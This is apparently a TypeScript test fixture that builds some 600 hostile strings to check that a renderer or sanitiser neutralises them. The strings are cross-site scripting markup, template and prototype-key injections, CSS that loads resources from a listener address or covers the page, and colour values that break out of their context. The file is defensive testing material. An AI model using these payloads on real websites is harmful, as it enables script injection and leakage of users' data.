const run = 'pwned()';

/** Markup that runs a script or loads something where it is taken for markup. `{at}` is the address of a listener. */
const markup = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<details open ontoggle=${run}>x</details>`,
  `<body onload=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<a href="javascript:${run}">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `' onpointerenter='${run}' x='`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><svg/onload=${run}>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<img src={at}/text>`,
  `<link rel=stylesheet href={at}/sheet>`,
  `<object data={at}/object>`,
  `<meta http-equiv=refresh content="0;url={at}/refresh">`,
  `<base href={at}/>`,
  `<form action={at}><input type=submit autofocus></form>`,
  `{a|<img src=x onerror=${run}>}`,
  `__proto__`,
  `hasOwnProperty`,
  `<embed src={at}/embed>`,
  `constructor`,
  `toString`,
  `\u202e<img src=x onerror=${run}>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<ScRiPt\n>${run}</sCrIpT >`,
  `<img src="x" style="background:url({at}/style)">`,
];

const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Sales ${text}`,
  (text) => text.toUpperCase().replaceAll('PWNED', 'pwned').replaceAll('{AT}', '{at}'),
  (text) => `${'\u00a0'.repeat(4)}${text}${text}`,
  (text) => `\n\t${text.replaceAll(' ', '/')}`,
];

const to = (at: string) => (text: string) => text.replaceAll('{at}', at);

/** 200 texts that must stay texts. */
export const hostileTexts = (at: string): readonly string[] =>
  around.flatMap((change) => markup.map(change)).map(to(at));

const loads = [
  'url({at}/a)',
  'url("{at}/b")',
  "url('{at}/c')",
  'URL({at}/d)',
  'u\\rl({at}/e)',
  '\\75 rl({at}/f)',
  'url(/**/{at}/g)',
  'image-set("{at}/h" 1x)',
  '-webkit-image-set(url({at}/i) 1x)',
  'cross-fade(url({at}/j), url({at}/k), 50%)',
  'image("{at}/l")',
  'src("{at}/m")',
  'var(--x, url({at}/n))',
  'url({at}/o) fixed',
  'linear-gradient(red, red), url({at}/p)',
];
const carriers = [
  'background',
  'background-image',
  'list-style-image',
  'border-image-source',
  'cursor',
  'content',
  'mask-image',
  '--inlay-background',
  'filter',
];
const sheets = [
  `@import url({at}/q);`,
  `@import "{at}/r";`,
  `@\\69mport "{at}/s";`,
  `@font-face { font-family: f; src: url({at}/t); } * { font-family: f }`,
  `@namespace svg url({at}/u);`,
  `@charset "utf-8"; @import "{at}/v";`,
  `@media all { .item { background: url({at}/w) } }`,
  `@supports (display: grid) { .item { background: url({at}/x) } }`,
  `@layer a { .item { background: url({at}/y) } }`,
  `@container (min-width: 1px) { .item { background: url({at}/z) } }`,
  `@scope (:host) { :scope { background: url({at}/aa) } }`,
  `@keyframes k { from { background: url({at}/ab) } } .item { animation: k 1s infinite }`,
  `@page { background: url({at}/ac) }`,
  `@property --p { syntax: "<url>"; inherits: true; initial-value: url({at}/ad) }`,
  `@starting-style { .item { background: url({at}/ae) } }`,
  `.item { & .x, & { background: url({at}/af) } }`,
  `:host { position: fixed; inset: 0; z-index: 2147483647; background: red }`,
  `:host-context(body) { position: fixed; inset: 0 }`,
  `:root, html, body { background: url({at}/ag) }`,
  `.item { position: fixed; inset: 0; z-index: 2147483647 }`,
  `.grid { position: fixed !important; inset: 0 }`,
  `article { position: absolute; top: -9999px; left: -9999px; width: 99999px; height: 99999px }`,
  `.item { transform: translate(-50vw, -50vh) scale(50) }`,
  `.item { margin: -2000px; width: 9999px; height: 9999px }`,
  `.item { behavior: url({at}/ah); -moz-binding: url({at}/ai) }`,
  `.item { width: expression(${run}) }`,
  `</style><script>${run}</script>`,
  `.a{} </style><img src=x onerror=${run}> <style>`,
  `.item { color: red } /* */ } body { background: url({at}/aj) }`,
  `.item[part^="i"] { background: url({at}/ak) }`,
  `input[value^="a"] { background: url({at}/al) }`,
  `.item { background: red; background: u\\\nrl({at}/am) }`,
  `.item::before { content: url({at}/an) } .item::after { content: attr(part) }`,
  `.item { background: attr(part type(<url>)) }`,
  `@view-transition { navigation: auto }`,
  `.item { shape-outside: url({at}/ao); clip-path: url({at}/ap#a); offset-path: url({at}/aq) }`,
  `a:visited { background: url({at}/ar) }`,
  `.item { background-image: -webkit-cross-fade(url({at}/as), url({at}/at), 50%) }`,
  `.item { background: element(#x); background: paint(x) }`,
  `.item { -webkit-mask: url({at}/au); mask: url({at}/av) }`,
];

/** 200 style sheets that must load nothing and stay in their place. */
export const hostileSheets = (at: string): readonly string[] =>
  [
    ...sheets,
    ...loads.flatMap((load) => carriers.map((carrier) => `.item, h2, article { ${carrier}: ${load} !important }`)),
    ...loads.map((load) => `@media screen { .grid { --y: ${load}; background: var(--y) } }`),
    ...loads.slice(0, 10).map((load) => `.item { background: ${load}`),
  ].map(to(at));

/** 200 values where a colour, a font or a size is expected. */
export const hostileColors = (at: string): readonly string[] =>
  [
    ...hostileTexts(at).slice(0, 80),
    ...loads,
    ...loads.map((load) => `red;background:${load}`),
    ...loads.map((load) => `#fff;} .item{background:${load}`),
    ...loads.map((load) => `rgb(0,0,0) ${load}`),
    ...loads.map((load) => `rgba(0,0,0,${load})`),
    ...loads.map((load) => `hsl(0 0% 0% / ${load})`),
    ...loads.map((load) => `color-mix(in srgb, red, ${load})`),
    ...loads.map((load) => `"${load}"`),
  ].map(to(at));
